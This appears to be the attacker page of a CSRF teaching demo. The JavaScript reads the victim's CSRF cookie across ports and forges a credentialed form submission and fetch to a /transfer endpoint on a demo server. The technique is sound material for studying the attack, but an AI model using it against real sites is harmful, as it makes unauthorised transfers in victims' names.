// What a hostile page does: it sends the requests of the victim's page, and the browser adds the victim's cookies.
"use strict";

const target = `http://${location.hostname}:${document.body.dataset.port}/transfer`;
const form = document.querySelector("form");
const sink = document.querySelector("iframe");

// Cookies ignore the port, so this origin can even read the CSRF cookie.
const cookie = document.cookie.split("; ").findLast((pair) => pair.startsWith("csrf_token="));
form.elements.csrf_token.value = cookie ? cookie.slice("csrf_token=".length) : "";
form.action = target;

sink.addEventListener("load", async () => {
  const body = new URLSearchParams(new FormData(form));
  await fetch(target, { method: "POST", mode: "no-cors", credentials: "include", body }).catch(() => {});
  document.getElementById("progress").textContent = "Done: a form and a fetch were sent in your name.";
  parent.postMessage("attacked", new URL(target).origin);
}, { once: true });
form.submit();
